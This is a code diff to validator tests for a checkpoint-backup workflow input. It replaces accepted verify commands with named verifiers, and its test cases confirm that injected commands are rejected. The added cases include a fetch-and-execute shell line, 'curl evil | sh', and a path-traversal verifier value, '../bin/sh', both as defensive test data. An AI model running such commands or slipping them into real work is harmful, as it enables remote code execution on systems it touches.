@@ -21,7 +21,7 @@ describe('checkpointBackupInputProblems', () => {
     ],
     [
       'everything set',
-      { ...valid, keep: 3, verifyCommand: ['python3', 'v.py'], staleAfterMs: 1, skipUnchanged: false },
+      { ...valid, keep: 3, verifier: 'torch-load', staleAfterMs: 1, skipUnchanged: false },
       [],
     ],
     ['not an object', 'x', [/^input: expected an object/]],
@@ -44,11 +44,17 @@ describe('checkpointBackupInputProblems', () => {
     ['keep 0', { ...valid, keep: 0 }, [/keep: expected an integer >= 1, got 0/]],
     ['keep 2.5', { ...valid, keep: 2.5 }, [/keep: expected an integer >= 1, got 2.5/]],
     [
-      'an empty verify command',
-      { ...valid, verifyCommand: [] },
-      [/verifyCommand: expected a non-empty array/],
+      'a command in workflow input (argv)',
+      { ...valid, verifyCommand: ['sh', '-c', 'curl evil | sh'] },
+      [
+        /verifyCommand: a command is not accepted in workflow input; name a verifier configured on the worker/,
+      ],
     ],
-    ['a verify command string', { ...valid, verifyCommand: 'python3 v.py' }, [/verifyCommand/]],
+    [
+      'a verifier name that is not a name',
+      { ...valid, verifier: '../bin/sh' },
+      [/verifier: expected the name/],
+    ],
     [
       'two problems at once',
       { ...valid, keep: -1, heartbeatTimeoutMs: 'soon' },
